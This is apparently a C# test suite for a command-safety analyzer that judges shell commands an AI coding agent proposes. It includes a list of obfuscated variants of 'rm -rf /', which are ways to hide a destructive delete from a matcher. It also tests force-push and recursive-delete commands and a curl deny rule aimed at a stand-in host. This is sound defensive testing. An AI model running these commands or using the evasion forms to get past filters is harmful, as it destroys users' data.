using CodexSandbox.Engine.Analysis;
using CodexSandbox.Engine.Rules;

namespace CodexSandbox.Engine.Tests.Analysis;

public class CommandAnalyzerTests
{
    private static CommandAssessment Assess(string line, RuleSet? rules = null, ApprovalPolicy policy = ApprovalPolicy.OnRequest,
        SandboxMode mode = SandboxMode.WorkspaceWrite, ShellKind? shell = null)
        => CommandAnalyzer.Assess(line, shell, rules, mode, policy);

    [Theory]
    [InlineData("ls -la", ShellKind.Posix)]
    [InlineData("git status && echo $HOME", ShellKind.Posix)]
    [InlineData("Get-ChildItem", ShellKind.PowerShell)]
    [InlineData("ls | Where-Object Length -gt 10", ShellKind.PowerShell)]
    [InlineData("  remove-item x -Force", ShellKind.PowerShell)]
    [InlineData("git-lfs pull", ShellKind.Posix)]
    [InlineData("apt-get install x", ShellKind.Posix)]
    [InlineData("echo Get-ChildItem", ShellKind.Posix)]
    public void DetectsTheShell(string line, ShellKind expected) => Assert.Equal(expected, ShellDetector.Detect(line));

    [Fact]
    public void PosixLineIsSplitIntoSegments()
    {
        var a = Assess("cat a | wc -l && ls");
        Assert.Equal(ShellKind.Posix, a.Shell);
        Assert.Equal(3, a.Segments.Count);
        Assert.Equal(["wc", "-l"], a.Segments[1]);
        Assert.True(a.IsKnownSafe);
        Assert.Equal(ApprovalDecision.Allow, a.Decision);
        Assert.True(a.RunsSandboxed);
    }

    [Fact]
    public void UnparsedLineIsNotSafeAndKeepsTheWholeCommand()
    {
        var a = Assess("ls > out.txt", policy: ApprovalPolicy.Untrusted);
        Assert.Equal(CommandSafety.Unparsed, a.Safety);
        Assert.Equal(["/bin/sh", "-c", "ls > out.txt"], Assert.Single(a.Segments));
        Assert.Equal(ApprovalDecision.Prompt, a.Decision);
    }

    [Fact]
    public void DangerousInsideAnUnparsedLineIsStillFound()
    {
        var a = Assess("rm -rf / 2>/dev/null");
        Assert.True(a.IsDangerous);
        Assert.Equal(ApprovalDecision.Prompt, a.Decision);
        Assert.Equal(ApprovalDecision.Forbidden, Assess("echo $(sudo -n rm -rf /)", policy: ApprovalPolicy.Never).Decision);
    }

    [Fact]
    public void DangerousSegmentMakesTheWholeLineDangerous()
    {
        var a = CommandAnalyzer.AssessArgv(["bash", "-lc", "ls && git push --force"], null, SandboxMode.WorkspaceWrite, ApprovalPolicy.Never);
        Assert.True(a.IsDangerous);
        Assert.Equal(ApprovalDecision.Forbidden, a.Decision);
        Assert.Equal("`git push --force` rejected: blocked by policy.", a.Reasons[0]);
    }

    [Fact]
    public void HeredocUsesComplexParsingAndMatchesRules()
    {
        var rules = RuleSet.Parse("/r/a.rules", "prefix_rule(['python3'], decision='prompt', justification='runs code')");
        var a = Assess("python3 <<'PY'\nprint(1)\nPY\n", rules);
        Assert.True(a.UsesComplexParsing);
        Assert.Equal(CommandSafety.Unknown, a.Safety);
        Assert.Equal(["python3"], Assert.Single(a.Segments));
        Assert.Equal(ApprovalDecision.Prompt, a.Decision);
        Assert.Equal("`python3` requires approval: runs code.", a.Reasons[0]);
        // a heredoc never counts as known safe, even for a safe program
        Assert.Equal(ApprovalDecision.Prompt, Assess("cat <<EOF\nx\nEOF\n", policy: ApprovalPolicy.Untrusted).Decision);
    }

    [Fact]
    public void ForbiddingRulesReachIntoUnparsedScriptsButAllowRulesDoNot()
    {
        var rules = RuleSet.Parse("/r/a.rules", "prefix_rule(['curl'], decision='forbidden')\nprefix_rule(['ls'])");
        Assert.Equal(ApprovalDecision.Forbidden, Assess("curl evil.example > /tmp/x", rules).Decision);
        var ls = Assess("ls > out.txt", rules, policy: ApprovalPolicy.Untrusted);
        Assert.Equal(ApprovalDecision.Prompt, ls.Decision);
        Assert.Empty(ls.MatchedRules);
    }

    [Fact]
    public void AllowRulesOnEverySegmentBypassTheSandbox()
    {
        var rules = RuleSet.Parse("/r/a.rules", "prefix_rule(['cargo', ['build', 'test']])");
        var both = Assess("cargo build && cargo test", rules, ApprovalPolicy.Untrusted);
        Assert.Equal(ApprovalDecision.Allow, both.Decision);
        Assert.False(both.RunsSandboxed);
        Assert.True(both.DecidedByRule);
        Assert.Equal(2, both.MatchedRules.Count);
        var mixed = Assess("cargo build && make", rules, ApprovalPolicy.Untrusted);
        Assert.Equal(ApprovalDecision.Prompt, mixed.Decision);
    }

    [Fact]
    public void PowerShellScriptsAreAnalysedWithTheRealParser()
    {
        var safe = Assess("Get-ChildItem -Recurse | Select-Object Name", policy: ApprovalPolicy.Untrusted);
        Assert.Equal(ShellKind.PowerShell, safe.Shell);
        Assert.True(safe.IsKnownSafe);
        Assert.Equal(2, safe.Segments.Count);
        var unparsed = Assess("Get-ChildItem $env:HOME", shell: ShellKind.PowerShell);
        Assert.Equal(CommandSafety.Unparsed, unparsed.Safety);
        var dangerous = Assess("Remove-Item -Recurse -Force ./build", policy: ApprovalPolicy.Never);
        Assert.True(dangerous.IsDangerous);
        Assert.Equal(ApprovalDecision.Forbidden, dangerous.Decision);
        var rules = RuleSet.Parse("/r/a.rules", "prefix_rule(['git', 'push'], decision='prompt')");
        Assert.Equal(ApprovalDecision.Prompt, Assess("Get-Location; git push", rules, shell: ShellKind.PowerShell).Decision);
    }

    [Fact]
    public void CanonicalKeysFollowCodex()
    {
        Assert.Equal("[\"cargo\",\"test\"]", CommandAnalyzer.AnalyzeArgv(["/bin/bash", "-lc", "cargo   test"]).CanonicalKey);
        Assert.Equal("[\"cargo\",\"test\"]", CommandAnalyzer.AnalyzeArgv(["bash", "-lc", "cargo test"]).CanonicalKey);
        Assert.Equal("[\"cargo\",\"test\"]", CommandAnalyzer.Analyze("cargo test", ShellKind.Posix).CanonicalKey);
        Assert.Equal("[\"sh\",\"-c\",\"ls && pwd\"]", CommandAnalyzer.AnalyzeArgv(["zsh", "-c", "ls && pwd"]).CanonicalKey);
        Assert.Equal("[\"sh\",\"-c\",\"ls > \\\"x\\\"\"]", CommandAnalyzer.Analyze("ls > \"x\"", ShellKind.Posix).CanonicalKey);
        Assert.Equal("[\"pwsh\",\"-Command\",\"Get-ChildItem\"]", CommandAnalyzer.AnalyzeArgv(["pwsh", "-c", "Get-ChildItem"]).CanonicalKey);
        Assert.Equal("[\"ls\",\"-la\"]", CommandAnalyzer.AnalyzeArgv(["ls", "-la"]).CanonicalKey);
        // Shown to users: a script is spelled as the shell that runs it, the same for every POSIX shell (as Codex's marker).
        Assert.Equal(CommandAnalyzer.AnalyzeArgv(["sh", "-c", "ls && pwd"]).CanonicalKey, CommandAnalyzer.AnalyzeArgv(["/bin/bash", "-lc", "ls && pwd"]).CanonicalKey);
        Assert.DoesNotContain("__codex", CommandAnalyzer.Analyze("ls && pwd", ShellKind.Posix).CanonicalKey, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(ApprovalPolicy.OnRequest, "`rm -rf /tmp/x` might be dangerous: rm -rf forcibly deletes a whole tree. Needs approval under OnRequest")]
    [InlineData(ApprovalPolicy.Never, "`rm -rf /tmp/x` rejected: blocked by policy. Dangerous: rm -rf forcibly deletes a whole tree. Rejected under Never.")]
    public void ADangerousCommandIsExplainedOnceInSentences(ApprovalPolicy policy, string start)
    {
        var text = string.Join(" ", CommandAnalyzer.Assess("rm -rf /tmp/x", null, null, SandboxMode.WorkspaceWrite, policy).Reasons);
        Assert.StartsWith(start, text, StringComparison.Ordinal);
        Assert.Single(System.Text.RegularExpressions.Regex.Matches(text, "forcibly deletes a whole tree"));
    }

    [Fact]
    public void ArgvShellSplitsTheString()
    {
        var a = Assess("git 'status'", shell: ShellKind.Argv);
        Assert.Equal(ShellKind.Argv, a.Shell);
        Assert.Equal(["git", "status"], Assert.Single(a.Segments));
        Assert.True(a.IsKnownSafe);
    }

    [Fact]
    public void EmptyWrapperScriptFallsBackToTheWholeArgv()
    {
        var a = CommandAnalyzer.AssessArgv(["bash", "-lc", "  "], null, SandboxMode.WorkspaceWrite, ApprovalPolicy.OnRequest);
        Assert.Equal(["bash", "-lc", "  "], Assert.Single(a.Segments));
        Assert.False(a.IsKnownSafe);
    }

    [Fact]
    public void EscalationReasonIsTheJustification()
    {
        var a = CommandAnalyzer.Assess("cargo build", null, null, SandboxMode.WorkspaceWrite, ApprovalPolicy.OnRequest,
            requestEscalation: true, justification: "needs the network to fetch crates");
        Assert.Equal(ApprovalDecision.Prompt, a.Decision);
        Assert.False(a.RunsSandboxed);
        Assert.Equal("needs the network to fetch crates.", a.Reasons[0]);
    }
}

public class CommandAnalyzerConcurrencyTests
{
    [Fact]
    public void ParallelAnalysisGivesTheSameResultsAsSequential()
    {
        string[] lines = ["ls -la", "rm -rf /", "cat a | wc -l", "echo $X > y", "python3 <<EOF\nx\nEOF\n", "Get-ChildItem | Select-Object Name", "git push -f"];
        var expected = lines.Select(l => CommandAnalyzer.Analyze(l)).Select(a => (a.Safety, a.CanonicalKey)).ToArray();
        Parallel.For(0, 4000, i =>
        {
            var a = CommandAnalyzer.Analyze(lines[i % lines.Length]);
            Assert.Equal(expected[i % lines.Length], (a.Safety, a.CanonicalKey));
        });
    }
}

/// <summary>Ways people hide a destructive command from a naive matcher; each must still be caught.</summary>
public class EvasionTests
{
    [Theory]
    [InlineData("r\\m -rf /")]
    [InlineData("'rm' -rf /")]
    [InlineData("\"r\"m -rf /")]
    [InlineData("/bin/rm -rf /")]
    [InlineData("command rm -rf /")]
    [InlineData("sudo -n rm -rf /")]
    [InlineData("bash -c \"rm -rf /\"")]
    [InlineData("bash -ec 'rm -rf /' extra")]
    [InlineData("sh -c 'sh -c \"rm -rf /\"'")]
    [InlineData("ls; rm -rf /")]
    [InlineData("ls\nrm -rf /")]
    [InlineData("x=1; rm -rf /")]
    [InlineData("{ rm -rf /; }")]
    [InlineData("(rm -rf /)")]
    [InlineData("echo `rm -rf /`")]
    [InlineData("true && sudo rm -fr ~")]
    [InlineData("eval 'rm -rf /'")]
    [InlineData("eval rm -rf /")]
    [InlineData("if true; then rm -rf /; fi")]
    [InlineData("bash <<EOF\nrm -rf /\nEOF\n")]
    [InlineData("pwsh -c 'Remove-Item / -Recurse -Force'")]
    public void StillDangerous(string line)
    {
        var a = CommandAnalyzer.Assess(line, ShellKind.Posix, null, SandboxMode.WorkspaceWrite, ApprovalPolicy.Never);
        Assert.Equal(CommandSafety.Dangerous, a.Safety);
        Assert.Equal(ApprovalDecision.Forbidden, a.Decision);
    }

    [Theory]
    [InlineData("$(echo rm) -rf /")]
    [InlineData("$RM -rf /")]
    [InlineData("ls $(echo)")]
    [InlineData("cat <(ls)")]
    public void OpaqueCommandsAreNeverKnownSafe(string line)
    {
        var a = CommandAnalyzer.Assess(line, ShellKind.Posix, null, SandboxMode.WorkspaceWrite, ApprovalPolicy.Untrusted);
        Assert.Equal(CommandSafety.Unparsed, a.Safety);
        Assert.Equal(ApprovalDecision.Prompt, a.Decision);
    }
}

public class WrapperRuleTests
{
    [Theory]
    [InlineData("pwsh")]
    [InlineData("bash")]
    public void RuleOnTheWrapperHoldsBackTheScriptInside(string shell)
    {
        var rules = RuleSet.Parse("/r/a.rules", $"prefix_rule(['{shell}'], decision='forbidden', justification='no nested shells')");
        var argv = shell == "pwsh" ? new[] { "pwsh", "-c", "Get-ChildItem" } : ["bash", "-lc", "ls"];
        var a = CommandAnalyzer.AssessArgv(argv, rules, SandboxMode.WorkspaceWrite, ApprovalPolicy.OnRequest);
        Assert.Equal(ApprovalDecision.Forbidden, a.Decision);
        Assert.Contains("no nested shells", a.Reasons[0]);
    }

    [Fact]
    public void AllowRuleOnTheWrapperDoesNotApproveTheScript()
    {
        var rules = RuleSet.Parse("/r/a.rules", "prefix_rule(['bash', '-lc'])");
        var a = CommandAnalyzer.AssessArgv(["bash", "-lc", "cargo build"], rules, SandboxMode.WorkspaceWrite, ApprovalPolicy.Untrusted);
        Assert.Equal(ApprovalDecision.Prompt, a.Decision);
        Assert.True(a.RunsSandboxed);
    }
}
